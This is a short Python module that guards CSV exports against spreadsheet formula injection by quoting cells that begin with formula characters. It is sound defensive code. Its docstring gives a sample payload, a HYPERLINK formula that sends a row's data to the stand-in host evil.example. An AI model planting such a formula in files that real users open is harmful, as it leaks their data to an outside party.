"""CSV that a spreadsheet opens without running anything (OWASP "CSV injection").

A cell that starts with =, +, -, @, a tab or a carriage return is a formula to Excel and LibreOffice
(`=HYPERLINK("http://evil.example/?"&A1, "click")` leaks the row). Every export writes through
`safe_writer`, which prefixes such cells with a single quote so they are shown as text.
"""

from __future__ import annotations

import csv as _csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as text that cannot be read as a formula; numbers stay numbers."""
    if value is None or isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


class SafeWriter:
    """`csv.writer` whose every cell goes through `neutralise`."""

    def __init__(self, out: _Writable, **kwargs: Any) -> None:
        self._writer = _csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(out: _Writable, **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)
